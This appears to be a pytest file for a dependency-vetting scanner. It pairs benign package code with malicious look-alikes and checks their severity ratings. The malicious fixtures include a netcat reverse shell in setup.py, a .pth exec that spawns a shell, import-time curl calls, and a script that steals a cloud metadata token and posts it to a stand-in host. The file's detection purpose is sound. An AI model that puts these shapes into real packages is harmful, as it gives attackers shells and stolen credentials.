"""Shapes of code from popular benign packages that once raised alarms, each next to the malicious
shape it resembles: the benign one must stay below high, the malicious one must not."""

from __future__ import annotations

from dataclasses import dataclass

import pytest

from depvet.model import Severity
from tests.conftest import ScanFiles

_ELF = "\x7fELF\x02\x01\x01\x00" + "\x00" * 56


@dataclass(frozen=True)
class Pair:
    name: str
    rule: str
    benign: dict[str, str]
    malicious: dict[str, str]
    artifact: str = "directory"


PAIRS = [
    Pair(
        "coverage's .pth execs literal code that only checks a variable and calls its own package",
        "DV101",
        {
            "a1_coverage.pth": 'import sys; exec(\'import os\\nif os.getenv("COVERAGE_PROCESS_START"):\\n'
            "    import coverage\\n    coverage.process_startup()')\n"
        },
        {
            "a1_helper.pth": 'import sys; exec(\'import subprocess\\nsubprocess.Popen(["sh", "-c", '
            '"id > /tmp/x"])\')\n'
        },
        artifact="wheel",
    ),
    Pair(
        "a version module asks git at import time",
        "DV106",
        {
            "pkg/__init__.py": "from .version import v\n",
            "pkg/version.py": "import subprocess\nv = subprocess.run(['git', 'describe'], capture_output=True)\n",
        },
        {
            "pkg/__init__.py": "from .version import v\n",
            "pkg/version.py": "import subprocess\nv = subprocess.run(['curl', '-s', 'https://x.invalid/a'])\n",
        },
    ),
    Pair(
        "a pool manager built at import opens no connection; a request at import does",
        "DV106",
        {"pkg/__init__.py": "import urllib3\nhttp = urllib3.PoolManager(timeout=2)\n"},
        {"pkg/__init__.py": "import urllib3\nhttp = urllib3.PoolManager()\nr = http.request('GET', URL)\n"},
    ),
    Pair(
        "a test server probes IPv6 by resolving localhost at import",
        "DV106",
        {
            "pkg/__init__.py": "",
            "pkg/server.py": "import socket\n\ndef probe(host):\n    return socket.getaddrinfo(host, None)\n\n"
            "HAS_IPV6 = probe('localhost')\n",
        },
        {
            "pkg/__init__.py": "",
            "pkg/server.py": "import subprocess\nPROBE = subprocess.Popen(['/tmp/.cache/run'])\n",
        },
    ),
    Pair(
        "setup.py runs the source tree's autogen script; not a shell command string",
        "DV104",
        {
            "setup.py": "import subprocess\nfrom setuptools import setup\n"
            "subprocess.run(['/bin/sh', 'autogen.sh'], check=True)\nsetup(name='x')\n"
        },
        {
            "setup.py": "import subprocess\nfrom setuptools import setup\n"
            "subprocess.run(['/bin/sh', '-c', 'nc 10.0.0.1 4444 -e /bin/sh'])\nsetup(name='x')\n"
        },
    ),
    Pair(
        "an obfuscator's name in prose or as a moon is not its signature",
        "DV207",
        {"pkg/moons.py": "MOONS = ['Titan', 'Hyperion', 'Iapetus']\nAUTHOR = 'Kramer'\n"},
        {"pkg/core.py": "__obfuscator__ = 'Hyperion'\nexec(x)\n"},
    ),
    Pair(
        "a cloud SDK fetches its own token from the metadata endpoint; a stealer sends it away",
        "DV901",
        {
            "pkg/azure.py": "import urllib.request\n\ndef token():\n"
            "    url = 'http://169.254.169.254/metadata/identity/oauth2/token'\n"
            "    req = urllib.request.Request(url, headers={'Metadata': 'true'})\n"
            "    with urllib.request.urlopen(req, timeout=5) as r:\n        return r.read()\n"
        },
        {
            "pkg/azure.py": "import urllib.request, requests\n\ndef token():\n"
            "    url = 'http://169.254.169.254/metadata/identity/oauth2/token'\n"
            "    req = urllib.request.Request(url, headers={'Metadata': 'true'})\n"
            "    body = urllib.request.urlopen(req, timeout=5).read()\n"
            "    requests.post('https://collect.example.invalid/t', data=body)\n"
        },
    ),
]


def _worst(scan_files: ScanFiles, files: dict[str, str], artifact: str, rule: str) -> int:
    result = scan_files(files, artifact=artifact)
    return max((f.severity.rank for f in result.findings if f.rule_id == rule), default=-1)


@pytest.mark.parametrize("pair", PAIRS, ids=[p.name for p in PAIRS])
def test_benign_shape_stays_below_high(pair: Pair, scan_files: ScanFiles) -> None:
    assert _worst(scan_files, pair.benign, pair.artifact, pair.rule) < Severity.HIGH.rank


@pytest.mark.parametrize("pair", PAIRS, ids=[p.name for p in PAIRS])
def test_malicious_shape_is_high_or_worse(pair: Pair, scan_files: ScanFiles) -> None:
    assert _worst(scan_files, pair.malicious, pair.artifact, pair.rule) >= Severity.HIGH.rank


def test_developer_script_of_an_sdist_weighs_less_than_package_code(scan_files: ScanFiles) -> None:
    code = (
        "import os, urllib.request\n\ndef main():\n"
        "    urllib.request.urlretrieve('https://example.invalid/get-pip.py', 'get-pip.py')\n"
        "    os.system('python get-pip.py')\n"
    )
    tool = scan_files(
        {
            "setup.py": "from setuptools import setup\nsetup(name='pkg')\n",
            "pkg/__init__.py": "",
            "scripts/internal/install_pip.py": code,
        },
        artifact="sdist",
    )
    package = scan_files(
        {
            "setup.py": "from setuptools import setup\nsetup(name='pkg')\n",
            "pkg/__init__.py": "",
            "pkg/install_pip.py": code,
        },
        artifact="sdist",
    )
    assert max((f.severity.rank for f in tool.findings), default=-1) < Severity.HIGH.rank
    assert max(f.severity.rank for f in package.findings) >= Severity.HIGH.rank


def test_hostile_names_in_a_test_fixture_archive_are_not_high(scan_files: ScanFiles) -> None:
    import io
    import tarfile

    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        member = tarfile.TarInfo("../escape.txt")
        member.size = 1
        archive.addfile(member, io.BytesIO(b"x"))
    fixture = buffer.getvalue().decode("latin-1")
    result = scan_files({"pkg/__init__.py": "", "tests/bad.tar": fixture})
    escapes = [f for f in result.findings if f.rule_id == "DV806"]
    assert escapes
    assert all(f.severity.rank < Severity.HIGH.rank for f in escapes)


def test_shipped_launcher_is_medium_and_a_started_binary_is_high(scan_files: ScanFiles) -> None:
    setup = "from setuptools import setup\nsetup(name='x')\n"
    shipped = scan_files(
        {"setup.py": setup, "x/__init__.py": "", "x/t64.exe": "MZ" + "\x00" * 62}, artifact="sdist"
    )
    started = scan_files(
        {
            "setup.py": setup,
            "x/__init__.py": "import subprocess, os\nsubprocess.Popen([os.path.join(os.path.dirname(__file__), 'svc')])\n",
            "x/svc": _ELF,
        },
        artifact="sdist",
    )
    assert {f.rule_id for f in shipped.findings} >= {"DV809"}
    assert "DV801" not in {f.rule_id for f in shipped.findings}
    assert "DV801" in {f.rule_id for f in started.findings}


def test_crontab_in_prose_is_not_a_cron_install(scan_files: ScanFiles) -> None:
    prose = scan_files(
        {"pkg/__init__.py": "", "pkg/notes.sh": 'echo "Message to describe a crontab schedule."\n'}
    )
    command = scan_files({"pkg/__init__.py": "", "pkg/install.sh": "crontab ./jobs.txt\n"})
    assert "DV602" not in {f.rule_id for f in prose.findings}
    assert "DV602" in {f.rule_id for f in command.findings}
